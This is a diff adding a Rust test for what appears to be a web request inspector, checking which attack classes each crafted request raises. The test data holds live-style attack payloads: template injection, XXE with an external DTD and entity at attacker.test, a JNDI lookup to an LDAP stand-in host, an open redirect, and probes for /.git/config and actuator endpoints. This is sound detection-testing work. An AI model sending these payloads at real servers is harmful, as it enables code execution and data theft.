@@ -393,3 +393,68 @@ fn keywords_fit_the_tokenizer_shortcut() {
         assert!(t.iter().all(|w| w.len() <= 9), "{t:?}");
     }
 }
+
+/// The requests the host tests send for the newer classes each raise their own class alone
+/// (other rules must not claim them: one event per attack in `tests/tests/threats.rs`).
+#[test]
+fn newer_classes_alone_on_the_host_tests_requests() {
+    let run = |path: &str, headers: Vec<(&str, &str)>, body: &[u8]| {
+        let mut h = vec![("host", "127.0.0.1:10000")];
+        h.extend(headers);
+        let req = Request {
+            method: if body.is_empty() { "GET" } else { "POST" },
+            path,
+            headers: &h,
+            body,
+        };
+        let mut hits = Vec::new();
+        inspect(&req, &Scope::defaults(), &mut hits);
+        let mut found: Vec<Attack> = hits.iter().map(|h| h.attack).collect();
+        found.sort();
+        found
+    };
+    use Attack::*;
+    assert_eq!(
+        run(
+            "/api/orders?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
+            vec![],
+            b""
+        ),
+        [TemplateInjection]
+    );
+    assert_eq!(
+        run(
+            "/api/comments",
+            vec![("content-type", "application/xml")],
+            br#"<?xml version="1.0"?><!DOCTYPE c SYSTEM "http://attacker.test/x.dtd"><c>1</c>"#
+        ),
+        [Xxe]
+    );
+    // An entity declaration is XSS too, as CRS 941130 has it: both rules raise.
+    assert_eq!(
+        run(
+            "/api/comments",
+            vec![("content-type", "application/xml")],
+            br#"<!DOCTYPE c [<!ENTITY x SYSTEM "http://attacker.test/x.dtd">]><c>&x;</c>"#
+        ),
+        [Xss, Xxe]
+    );
+    assert_eq!(
+        run(
+            "/api/orders",
+            vec![("user-agent", "${${lower:j}ndi:ldap://attacker.test/a}")],
+            b""
+        ),
+        [JndiInjection]
+    );
+    assert_eq!(
+        run("/api/orders?next=%2F%5Cattacker.test%2F", vec![], b""),
+        [OpenRedirect]
+    );
+    assert_eq!(run("/api/actuator/env", vec![], b""), [SensitivePathProbe]);
+    // A restricted file in the path is file inclusion too (CRS 930130 files it there).
+    assert_eq!(
+        run("/api/.git/config", vec![], b""),
+        [FileInclusion, SensitivePathProbe]
+    );
+}
